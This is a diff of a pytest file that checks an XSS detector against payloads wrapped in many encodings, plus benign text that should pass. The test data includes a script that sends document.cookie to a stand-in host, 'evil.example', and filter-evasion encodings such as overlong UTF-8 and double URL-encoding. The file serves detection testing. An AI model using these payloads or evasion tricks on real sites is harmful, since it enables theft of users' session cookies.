@@ -2,20 +2,17 @@
 
 from __future__ import annotations
 
-import base64
 import html
-from collections.abc import Callable
 from urllib.parse import quote
 
 import pytest
+from tests.support.codings import Coding, base64_of, hexadecimal_references, once, twice, wide
+from tests.support.suspects import STOPS, Suspects
 
 from vallum.inspection.detectors.xss import DETECTOR
-from vallum.inspection.inspector import Inspector, patterns_of
-from vallum.inspection.model import Content, Context
-from vallum.inspection.scan import compile_patterns, load_scan
+from vallum.inspection.model import Content
 
-Coding = Callable[[str], str]
-
+SUSPECTS = Suspects(DETECTOR)
 PAYLOADS = (
     "<svg/onload=alert(1)>",
     "<script>fetch('//evil.example/'+document.cookie)</script>",
@@ -34,20 +31,12 @@ PAYLOADS = (
 )
 
 
-def _references(text: str) -> str:
-    return "".join(f"&#x{ord(letter):x};" for letter in text)
-
-
 def _escapes(text: str) -> str:
     return "".join(letter if letter.isalnum() else f"\\u{ord(letter):04x}" for letter in text)
 
 
 def _hexadecimal(text: str) -> str:
     return "".join(f"\\x{ord(letter):02x}" for letter in text)
-
-
-def _full_width(text: str) -> str:
-    return "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text)
 
 
 def _zero_width(text: str) -> str:
@@ -58,43 +47,28 @@ def _nulls(text: str) -> str:
     return "\0".join(text)
 
 
-def _base64(text: str) -> str:
-    return base64.b64encode(text.encode()).decode()
-
-
 CODINGS: tuple[Coding, ...] = (
     str,
     quote,
-    lambda text: quote(quote(text, safe=""), safe=""),
+    twice,
     html.escape,
-    _references,
+    hexadecimal_references,
     _escapes,
     _hexadecimal,
-    _full_width,
+    wide,
     _zero_width,
     _nulls,
-    _base64,
-    lambda text: quote(_references(text), safe=""),
+    base64_of,
+    lambda text: once(hexadecimal_references(text)),
     lambda text: _escapes(html.escape(text)),
-    lambda text: _base64(quote(text, safe="")),
+    lambda text: base64_of(once(text)),
 )
-
-
-@pytest.fixture(scope="module")
-def inspector() -> Inspector:
-    scan = load_scan(compile_patterns(patterns_of((DETECTOR,))))
-    return Inspector((DETECTOR,), scan, lambda: 0.0)
-
-
-def _strongest(inspector: Inspector, text: str, content: Content = "text") -> int:
-    found = inspector.inspect([text], lambda _: Context("query", "q", content))
-    return max((each.judgement.score for each in found), default=0)
 
 
 @pytest.mark.parametrize("coding", CODINGS)
 @pytest.mark.parametrize("payload", PAYLOADS)
-def test_b117_xss_enc(inspector: Inspector, payload: str, coding: Coding) -> None:
-    assert _strongest(inspector, coding(payload)) >= 5
+def test_b117_xss_enc(payload: str, coding: Coding) -> None:
+    assert SUSPECTS.score(coding(payload)) >= STOPS
 
 
 @pytest.mark.parametrize(
@@ -114,16 +88,14 @@ def test_b117_xss_enc(inspector: Inspector, payload: str, coding: Coding) -> Non
         "%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be",
     ],
 )
-def test_b117_xss_enc_disguised(inspector: Inspector, text: str) -> None:
-    assert _strongest(inspector, text) >= 5
+def test_b117_xss_enc_disguised(text: str) -> None:
+    assert SUSPECTS.score(text) >= STOPS
 
 
 @pytest.mark.parametrize("content", ["prose", "html", "markdown"])
 @pytest.mark.parametrize("payload", [each for each in PAYLOADS if each.startswith("<")])
-def test_b117_xss_enc_whatever_the_content(
-    inspector: Inspector, payload: str, content: Content
-) -> None:
-    assert _strongest(inspector, payload, content) >= 5
+def test_b117_xss_enc_whatever_the_content(payload: str, content: Content) -> None:
+    assert SUSPECTS.score(payload, content=content) >= STOPS
 
 
 @pytest.mark.parametrize(
@@ -136,11 +108,11 @@ def test_b117_xss_enc_whatever_the_content(
         "List&lt;String&gt; names",
     ],
 )
-def test_b117_coded_text_of_a_person_passes(inspector: Inspector, text: str) -> None:
-    assert _strongest(inspector, text) < 5
+def test_b117_coded_text_of_a_person_passes(text: str) -> None:
+    assert SUSPECTS.score(text) < STOPS
 
 
-def test_b117_escaped_examples_pass_in_rich_text(inspector: Inspector) -> None:
+def test_b117_escaped_examples_pass_in_rich_text() -> None:
     text = "<p>Never print <code>&lt;script&gt;alert(1)&lt;/script&gt;</code>.</p>"
 
-    assert _strongest(inspector, text, "html") < 5
+    assert SUSPECTS.score(text, content="html") < STOPS
